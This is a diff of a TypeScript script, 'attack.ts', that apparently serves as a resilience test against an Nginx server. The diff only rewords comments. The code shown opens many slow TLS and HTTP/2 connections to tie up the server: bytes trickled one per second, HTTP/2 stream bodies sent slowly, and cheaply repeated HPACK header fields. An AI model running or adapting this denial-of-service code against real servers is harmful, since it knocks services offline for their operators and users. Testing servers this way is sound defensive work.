@@ -1,26 +1,25 @@
-// Runs in a container of its own, so that it comes from an address of its own: node attack.ts KIND HOST PORT CONNECTIONS.
-// Opens connections that misuse Nginx, and again each one that ends. Prints "at the maximum" when all were open once, and what
-// came of them when standard input ends.
+// Runs in a container of its own, so that it has an address of its own: node attack.ts KIND HOST PORT CONNECTIONS.
+// Opens connections that misuse Nginx, and reopens each one that ends. Prints "at the maximum" when all have been open
+// once, and the outcome when standard input ends.
 import { type ClientHttp2Stream, connect as connectHttp2, type OutgoingHttpHeaders } from 'node:http2';
 import { connect as connectTls } from 'node:tls';
 
-/** What came of an attack. */
 export interface AttackOutcome {
   opened: number;
   closed: number;
-  /** How many answers there were of each status. */
+  /** Number of responses by status. */
   statuses: Record<string, number>;
 }
 
 const [kind = '', host = '', port = '', connections = ''] = process.argv.slice(2);
 const INTERVAL_MS = 1000;
-/** Long enough that handshakes do not take the processors that the test's other client needs. */
+/** Long enough that handshakes leave the processors to the test's other client. */
 const RECONNECT_MS = 4000;
 const LARGE = 'h'.repeat(60_000);
 const HEAD = 'HTTP/1.1\r\nHost: mooring';
-/** As many as Nginx allows on one connection by default. */
+/** Nginx's default maximum per connection. */
 const HTTP2_STREAMS = 16;
-/** One field that fits into HPACK's table, so that each further one costs the client a byte. */
+/** A field that fits into HPACK's table, so that each repetition costs the client one byte. */
 const REPEATED = Array.from({ length: 15 }, () => 'h'.repeat(3900));
 
 const outcome: AttackOutcome = { opened: 0, closed: 0, statuses: {} };
@@ -34,7 +33,7 @@ function noteFirstTry(): void {
   if (--untried === 0) console.log('at the maximum');
 }
 
-/** Sends these bytes, and then one a second. */
+/** Sends these bytes, then one byte per second. */
 function attackByBytes(first: string, isFirstTry = true): void {
   const socket = connectTls({ host, port: Number(port), rejectUnauthorized: false });
   let interval: NodeJS.Timeout;
@@ -56,14 +55,15 @@ function attackByBytes(first: string, isFirstTry = true): void {
   });
 }
 
-/** Opens streams on a connection of HTTP/2 whose bodies come a byte a second. */
+/** Opens streams on an HTTP/2 connection. Their bodies arrive at one byte per second. */
 function attackByStreams(headers: OutgoingHttpHeaders, isFirstTry = true): void {
   const session = connectHttp2(`https://${host}:${port}`, { rejectUnauthorized: false });
   const streams: ClientHttp2Stream[] = [];
   const interval = setInterval(() => {
     for (const stream of streams) stream.write('x');
   }, INTERVAL_MS);
-  // Nginx refuses streams with a body before its settings are acknowledged, which Node does when it has them.
+  // Nginx rejects streams with a body until its settings are acknowledged. Node acknowledges them when it receives
+  // them.
   session.once('remoteSettings', () => {
     outcome.opened++;
     if (isFirstTry) noteFirstTry();
